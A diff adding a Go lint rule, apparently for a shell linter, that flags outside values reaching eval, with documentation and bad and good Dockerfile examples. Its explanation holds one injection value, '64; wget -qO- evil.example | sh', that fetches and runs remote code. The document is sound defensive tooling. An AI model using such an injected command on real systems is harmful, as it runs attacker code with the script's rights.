@@ -1,0 +1,56 @@
+package rules
+
+import (
+	"github.com/crampon-lint/crampon/analysis"
+	"github.com/crampon-lint/crampon/analysis/taint"
+)
+
+var evalInjection = register(&analysis.Rule{
+	ID: "ALP507", Name: "eval", Since: "0.1.0",
+	Summary:    "a value from outside in the text of eval",
+	Severity:   analysis.Warning,
+	Confidence: analysis.Medium,
+	Aliases:    []string{"SC2294"},
+	CWE:        []int{95},
+	Doc: `## What it flags
+
+A positional parameter, a build argument, a line that was read, or an environment variable that the program does not set, when it becomes a part of what ` + "`eval`" + ` runs: directly, or through assignments, loops, calls of functions and ` + "`$(echo ...)`" + `.
+
+It is silent where the value is checked by an allow-list, a number or a list of words, or in a way that is not understood; where the text is constant and eval expands the variable itself; and for output of ` + "`getopt`, `ssh-agent`" + ` and their like. A variable whose name says that it is a command (` + "`*_CMD`, `*_HOOK`" + `) is information only.
+
+## Why
+
+eval reads the value as shell code. ` + "`64; wget -qO- evil.example | sh`" + ` in a number's place is run with the rights of the script, which in a container is often root. Quotes inside the text do not help: the value may close them. Run on BusyBox 1.35 and on 1.37 as Alpine builds it.
+
+## What to do
+
+Leave eval out: ` + "`ulimit -n \"$MAX_FILES\"`" + `. Where eval is needed, let it expand the value itself (` + "`eval \"$name=\\$value\"`" + `) and let only names through (` + "`case $name in *[!A-Za-z0-9_]*) exit 1;; esac`" + `).
+`,
+	Bad: `-- Dockerfile --
+FROM alpine:3.24
+COPY --chmod=755 entrypoint.sh /
+USER nobody
+ENTRYPOINT ["/entrypoint.sh"]
+-- entrypoint.sh --
+#!/bin/sh
+eval "ulimit -n $MAX_FILES"
+exec "$@"
+`,
+	Good: `-- Dockerfile --
+FROM alpine:3.24
+COPY --chmod=755 entrypoint.sh /
+USER nobody
+ENTRYPOINT ["/entrypoint.sh"]
+-- entrypoint.sh --
+#!/bin/sh
+ulimit -n "$MAX_FILES"
+exec "$@"
+`,
+	Run: func(p *analysis.Pass) {
+		for _, f := range p.Flows() {
+			if f.Sink.Class == taint.Eval {
+				p.Report(injection(f, "keep the value out of the text, or let only the characters of a name through"))
+			}
+		}
+	},
+})
